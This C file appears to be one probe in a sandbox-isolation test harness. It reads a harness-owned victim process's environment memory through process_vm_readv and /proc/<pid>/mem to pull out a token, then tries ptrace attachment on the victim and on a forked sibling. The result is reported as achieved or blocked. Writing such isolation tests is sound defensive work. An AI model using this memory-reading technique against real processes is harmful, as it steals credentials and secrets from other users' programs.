/* PRIV-02 (privilege): ptrace / process_vm_readv / /proc/<pid>/mem against a
 * harness-owned host "victim" (argv[1]) whose environment holds the token.
 * Reads env_start..env_end (from /proc/<pid>/stat) through process_vm_readv
 * and /proc/<pid>/mem; PTRACE_SEIZE+DETACH (never stops the victim); plus the
 * same against a forked sibling. Native control (root): TOKEN from victim memory.
 * Blocked: ESRCH (PID ns), EPERM (seccomp/caps/Yama). WASI: N/E. */
#include "common.h"
#ifdef __wasi__
ATK_NE_MAIN("WASI has no ptrace/process_vm_readv/procfs")
#else
#include <signal.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
static void dump(const char *how, const char *b, long n) {
  printf("INFO:%s read %ld bytes\n", how, n);
  for (long i = 0; i < n; i += strlen(b + i) + 1) if (b[i]) printf("TOKEN:%s:%s\n", how, b + i);
}
int main(int argc, char **argv) {
  if (argc < 2) { printf("usage: priv-02 <victim_pid>\n"); return ATK_INCONCLUSIVE; }
  int pid = atoi(argv[1]), leaked = 0;
  char p[128], st[4096];
  snprintf(p, sizeof p, "/proc/%d/stat", pid);
  long n = atk_read_file(p, st, sizeof st);
  unsigned long es = 0, ee = 0;
  if (n > 0 && strrchr(st, ')')) {
    char *s = strrchr(st, ')') + 2; /* field 3 */
    for (int f = 3; f < 50 && s; f++) s = strchr(s, ' ') ? strchr(s, ' ') + 1 : NULL;
    if (s) sscanf(s, "%lu %lu", &es, &ee);
  }
  printf("INFO:%s -> %s env=[%#lx,%#lx)\n", p, n > 0 ? "READ" : atk_errname((int)-n), es, ee);
  static char buf[65536];
  size_t len = ee > es && ee - es < sizeof buf ? ee - es : 0;
  if (len) {
    struct iovec l = {buf, len}, r = {(void *)es, len};
    long rc = process_vm_readv(pid, &l, 1, &r, 1, 0);
    atk_probe("process_vm_readv", rc, errno);
    if (rc > 0) { dump("process_vm_readv", buf, rc); leaked = 1; }
    snprintf(p, sizeof p, "/proc/%d/mem", pid);
    int fd = open(p, O_RDONLY);
    rc = fd < 0 ? -1 : pread(fd, buf, len, (off_t)es);
    atk_probe("proc-pid-mem", rc, errno);
    if (rc > 0) { dump("proc-mem", buf, rc); leaked = 1; }
    if (fd >= 0) close(fd);
  }
  long rc = ptrace(PTRACE_SEIZE, pid, 0, 0);
  atk_probe("ptrace-seize-victim", rc, errno);
  if (rc == 0) ptrace(PTRACE_DETACH, pid, 0, 0);
  pid_t c = fork();
  if (c == 0) { pause(); _exit(0); }
  rc = ptrace(PTRACE_SEIZE, c, 0, 0);
  atk_probe("ptrace-seize-sibling", rc, errno);
  kill(c, SIGKILL); waitpid(c, NULL, 0);
  return leaked ? ATK_ACHIEVED : ATK_BLOCKED;
}
#endif
